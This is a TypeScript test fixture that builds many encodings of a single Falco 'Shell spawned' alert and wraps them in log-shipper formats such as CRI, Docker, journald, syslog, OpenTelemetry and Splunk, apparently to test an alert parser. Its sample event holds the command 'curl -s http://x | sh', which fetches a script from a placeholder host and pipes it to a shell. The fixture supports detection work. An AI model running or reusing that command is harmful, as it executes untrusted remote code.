/** Lines as shippers, encoders and people's own templates write them: every way of saying one event, in every wrapper. */

/** One line, and what is odd about it. */
export interface Variant {
  readonly name: string;
  readonly line: string;
}

const TIME = '10:00:00.123456789';
const DATE = '2024-05-07T10:00:00.123456789';
const RULE = 'Mine';
const PAIRS =
  'user=root process=curl command=curl -s http://x | sh container_id=abc123abc123 k8s_ns_name=shop k8s_pod_name=web-1';
const FIELDS = {
  'container.id': 'abc123abc123',
  'k8s.ns.name': 'shop',
  'k8s.pod.name': 'web-1',
  'proc.cmdline': 'curl -s http://x | sh',
  'proc.name': 'curl',
  'user.name': 'root',
};
const MESSAGE = `Shell spawned | ${PAIRS}`;

type Doc = Readonly<Record<string, unknown>>;

const DOC: Doc = {
  hostname: 'node-1',
  output: `${TIME}: Warning ${MESSAGE}`,
  output_fields: FIELDS,
  priority: 'Warning',
  rule: RULE,
  source: 'syscall',
  tags: ['T1059', 'shell'],
  time: `${DATE}Z`,
};

const doc = (change: Doc = {}): string => JSON.stringify({ ...DOC, ...change });
const without = (...keys: readonly string[]): string =>
  JSON.stringify(Object.fromEntries(Object.entries(DOC).filter(([key]) => !keys.includes(key))));
const fields = (change: Doc): string => doc({ output_fields: { ...FIELDS, ...change } });
const spaced = (text: string): string => text.replace(/":/g, '": ').replace(/,"/g, ', "');
const escaped = (text: string): string =>
  text.replace(/[é—]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);

const named = (kind: string, bodies: readonly Variant[]): readonly Variant[] =>
  bodies.map(({ name, line }) => ({ name: `${kind} ${name}`, line }));

/** What stands inside: JSON, as different writers have it. */
const JSON_BODIES: readonly Variant[] = named('JSON', [
  { name: 'as Falco', line: doc() },
  { name: 'spaces', line: spaced(doc()) },
  { name: 'indented', line: JSON.stringify(DOC, null, 2) },
  { name: 'tabs', line: JSON.stringify(DOC, null, '\t') },
  {
    name: 'rule last',
    line: JSON.stringify({
      time: DOC.time,
      tags: DOC.tags,
      output_fields: FIELDS,
      priority: 'Warning',
      output: DOC.output,
      rule: RULE,
    }),
  },
  { name: 'unicode', line: doc({ output: `${TIME}: Warning Shéll — 日本 😀 | ${PAIRS}` }) },
  { name: 'unicode escaped', line: escaped(doc({ output: `${TIME}: Warning Shéll — x | ${PAIRS}` })) },
  {
    name: 'Go escapes',
    line: fields({ 'fd.name': '<a>&b' }).replace(/[<>&]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`),
  },
  { name: 'slashes escaped', line: doc().replace(/\//g, '\\/') },
  { name: 'quotes', line: fields({ 'proc.args': '-c "echo \\"x\\" \\\\ y"' }) },
  { name: 'new lines', line: fields({ 'proc.args': 'a\nb\r\nc\td' }) },
  { name: 'NUL', line: fields({ 'proc.args': 'a\u0000b' }) },
  {
    name: 'numbers',
    line: fields({ 'proc.pid': 12345678901234567890n.toString(), 'evt.num': 1e21, 'x.f': -0.5, 'x.t': true }),
  },
  { name: 'null fields', line: fields({ 'user.name': null, 'proc.name': 'curl' }) },
  { name: 'huge', line: fields({ 'proc.env': 'A=b '.repeat(15_000) }) },
  { name: 'deep', line: fields({ 'json.value': { a: [{ b: [1, { c: null }] }] } }) },
  { name: 'priority lower', line: doc({ priority: 'warning' }) },
  { name: 'priority upper', line: doc({ priority: 'WARNING' }) },
  { name: 'no output', line: without('output') },
  { name: 'no fields', line: without('output_fields') },
  { name: 'no tags, source, host', line: without('tags', 'source', 'hostname') },
  { name: 'no time', line: without('time') },
  { name: 'time with offset', line: doc({ time: '2024-05-07T12:00:00.123456789+02:00' }) },
  { name: 'time as a number', line: doc({ time: 1715076000123456 }) },
  { name: 'with uuid', line: doc({ uuid: '0b0c1a2e-1111-4222-8333-444455556666' }) },
  { name: 'own message', line: doc({ message: 'hello' }) },
  { name: 'own log', line: doc({ log: 'hello' }) },
  { name: 'own body', line: doc({ body: { a: 1 } }) },
  { name: 'own msg', line: doc({ msg: 'hello', event: 'x' }) },
  { name: 'ISO output', line: doc({ output: `${DATE}+0000: Warning ${MESSAGE}` }) },
  { name: 'rule of braces', line: doc({ output: `${TIME}: Warning {"a": "b"} | ${PAIRS}` }) },
  { name: 'cut', line: doc().slice(0, -30) },
]);

/** The same as text. */
const TEXT_BODIES: readonly Variant[] = named('text', [
  { name: 'as Falco', line: `${TIME}: Warning ${MESSAGE}` },
  { name: 'round brackets', line: `${TIME}: Warning Shell spawned (${PAIRS})` },
  { name: 'ISO', line: `${DATE}+0000: Warning ${MESSAGE}` },
  { name: 'ISO Z', line: `${DATE}Z: Warning ${MESSAGE}` },
  { name: 'unicode', line: `${TIME}: Warning Shéll — 日本 😀 | ${PAIRS}` },
  { name: 'quotes', line: `${TIME}: Warning Shell "x" \\ 'y' {z} | ${PAIRS}` },
  { name: 'tab, new line', line: `${TIME}: Warning Shell\tspawned\nagain | ${PAIRS}` },
  { name: 'percent', line: `${TIME}: Warning 100%41 | ${PAIRS}` },
  { name: 'JSON in it', line: `${TIME}: Warning {"rule":"Other","output":"x"} | ${PAIRS}` },
  { name: 'huge', line: `${TIME}: Warning ${'x'.repeat(60_000)} | ${PAIRS}` },
  { name: 'Informational', line: `${TIME}: Informational ${MESSAGE}` },
  { name: 'colon behind', line: `${TIME}: Warning: ${MESSAGE}` },
]);

type Wrap = (line: string) => string;
const q = (value: unknown): string => JSON.stringify(value);
const ISO = '2024-05-07T10:00:00.2Z';

/** What shippers put round it. */
const WRAPS: ReadonlyArray<readonly [string, Wrap]> = [
  ['nothing', (line) => line],
  ['CRLF', (line) => `${line}\r\n`],
  ['blanks', (line) => `  ${line} \t`],
  ['BOM', (line) => `\ufeff${line}`],
  ['CRI', (line) => `${ISO} stdout F ${line}`],
  ['CRI, stderr, offset', (line) => `2024-05-07T12:00:00.123456789+02:00 stderr F ${line}`],
  ['CRI, partial', (line) => `${ISO} stdout P ${line}`],
  ['Docker', (line) => q({ log: `${line}\n`, stream: 'stdout', time: ISO })],
  ['Docker, CRLF, attrs', (line) => q({ attrs: { tag: 'x' }, stream: 'stderr', log: `${line}\r\n` })],
  ['journal', (line) => q({ _HOSTNAME: 'n', SYSLOG_IDENTIFIER: 'falco', MESSAGE: line })],
  [
    'journal, spaced',
    (line) => spaced(q({ _HOSTNAME: 'n', PRIORITY: '6' })).replace(/\}$/, `, "MESSAGE": ${q(line)}}`),
  ],
  ['journal, bytes', (line) => q({ MESSAGE: [...Buffer.from(line)], _HOSTNAME: 'n' })],
  ['journal, bytes spaced', (line) => `{"MESSAGE": [${[...Buffer.from(line)].join(', ')}]}`],
  ['RFC 3164', (line) => `<12>May 07 10:00:00 node-1 falco[321]: ${line}`],
  ['RFC 3164, one digit, no pid', (line) => `May  7 10:00:00 node-1.example.org falco: ${line}`],
  ['RFC 3164, path', (line) => `May  7 10:00:00 node-1 /usr/bin/falco[1]: ${line}`],
  ['rsyslog, ISO', (line) => `2024-05-07T10:00:00.123456+02:00 node-1 falco[321]: ${line}`],
  ['RFC 3164, address', (line) => `<14>May  7 10:00:00 10.0.0.1 falco[1]: ${line}`],
  ['RFC 5424', (line) => `<12>1 ${ISO} node-1 falco 321 - - ${line}`],
  ['RFC 5424, nothing known', (line) => `<12>1 - - - - - - ${line}`],
  ['RFC 5424, elements', (line) => `<12>1 ${ISO} node-1 falco 321 ID1 [a@1 b="c\\]d" e="\\"\\\\"][f] \ufeff${line}`],
  ['octet count', (line) => `${Buffer.byteLength(line) + 40} <12>1 ${ISO} node-1 falco 321 - - ${line}`],
  ['Vector', (line) => q({ file: '/x', host: 'n', message: line, source_type: 'file', timestamp: ISO })],
  [
    'Vector, read',
    (line) => (line.startsWith('{') ? `{"host":"n","message":${line},"source_type":"file"}` : q({ message: line })),
  ],
  ['OpenTelemetry', (line) => q({ body: line, attributes: { 'log.iostream': 'stdout' }, resources: {} })],
  ['OpenTelemetry, stringValue', (line) => q({ severityNumber: 9, body: { stringValue: line } })],
  ['OpenTelemetry, Body', (line) => q({ Timestamp: 1, Body: line })],
  ['FireLens', (line) => q({ container_id: 'c', container_name: 'f', ecs_cluster: 'e', log: line, source: 'stdout' })],
  ['Cloud Logging', (line) => q({ insertId: 'x', jsonPayload: { message: line }, severity: 'INFO' })],
  ['Cloud Logging, text', (line) => q({ textPayload: line, resource: {} })],
  ['logfmt', (line) => `stream=stdout log=${q(line)} pod=falco`],
  ['logfmt, msg', (line) => `ts=1 level=info msg=${q(line)}`],
  ['promtail pack', (line) => q({ _entry: line, namespace: 'falco' })],
  ['Filebeat', (line) => q({ '@timestamp': ISO, log: { offset: 1, file: { path: '/x' } }, message: line })],
  ['GELF', (line) => q({ version: '1.1', host: 'n', short_message: line, level: 4 })],
  ['syslog-ng', (line) => q({ HOST: 'n', PROGRAM: 'falco', MSG: line })],
  ['rsyslog JSON', (line) => q({ timereported: ISO, hostname: 'n', syslogtag: 'falco[1]:', msg: line })],
  ['Splunk', (line) => q({ time: 1, host: 'n', sourcetype: 'falco', event: line })],
  [
    'CloudEvents',
    (line) =>
      line.startsWith('{')
        ? `{"specversion":"1.0","type":"falco","source":"falco.org","data":${line}}`
        : q({ specversion: '1.0', data: line }),
  ],
  [
    'EventBridge',
    (line) => (line.startsWith('{') ? `{"detail-type":"falco","source":"x","detail":${line}}` : q({ detail: line })),
  ],
  ['CloudWatch', (line) => q({ id: '1', timestamp: 1, message: line })],
  ['SNS', (line) => q({ Type: 'Notification', Message: line })],
  ['Datadog', (line) => q({ ddsource: 'falco', service: 'falco', message: line, status: 'warn' })],
  ['Logstash', (line) => q({ '@version': '1', event: { original: line }, message: line })],
  ['Alloy, line', (line) => q({ line, labels: {} })],
  ['fluentd stdout', (line) => `2024-05-07 10:00:00.123456789 +0000 kube.falco: ${q({ log: line })}`],
];

const pair = (outer: string, inner: string): readonly [string, Wrap] => {
  const of = (name: string): Wrap => WRAPS.find(([known]) => known === name)?.[1] ?? ((line) => line);
  return [`${inner} in ${outer}`, (line) => of(outer)(of(inner)(line))];
};

/** Some of them in one another. */
const NESTED: ReadonlyArray<readonly [string, Wrap]> = [
  pair('CRI', 'journal'),
  pair('CRI', 'RFC 5424, elements'),
  pair('Docker', 'CRI'),
  pair('fluent-bit', 'Docker'),
  pair('fluent-bit', 'CRI'),
  pair('RFC 5424', 'Docker'),
  pair('RFC 3164', 'journal, bytes'),
  pair('Vector', 'journal'),
  pair('Vector', 'RFC 3164'),
  pair('OpenTelemetry', 'CRI'),
  pair('OpenTelemetry', 'Docker'),
  pair('Cloud Logging', 'Vector'),
  pair('logfmt', 'CRI'),
  pair('Docker', 'logfmt'),
  pair('journal', 'RFC 5424'),
  pair('promtail pack', 'CRI'),
  pair('promtail pack', 'Docker'),
  pair('Docker', 'Docker'),
  pair('BOM', 'Docker'),
  pair('CRLF', 'RFC 5424, elements'),
];

const OFTEN = ['nothing', 'CRI', 'Docker', 'OpenTelemetry', 'journal, bytes', 'logfmt', 'RFC 5424, elements'];

/** Each wrapper round a plain event, and each way of writing an event in the wrappers that are met most. */
export function allVariants(): readonly Variant[] {
  const plain = [...JSON_BODIES.slice(0, 1), ...TEXT_BODIES.slice(0, 1)];
  const within = (wraps: ReadonlyArray<readonly [string, Wrap]>, bodies: readonly Variant[]): readonly Variant[] =>
    wraps.flatMap(([wrapper, wrap]) =>
      bodies.map(({ name, line }) => ({ name: `${name}, in ${wrapper}`, line: wrap(line) }))
    );
  return [
    ...within([...WRAPS, ...NESTED], plain),
    ...within(
      WRAPS.filter(([name]) => OFTEN.includes(name)),
      [...JSON_BODIES, ...TEXT_BODIES].filter((body) => !plain.includes(body))
    ),
  ];
}
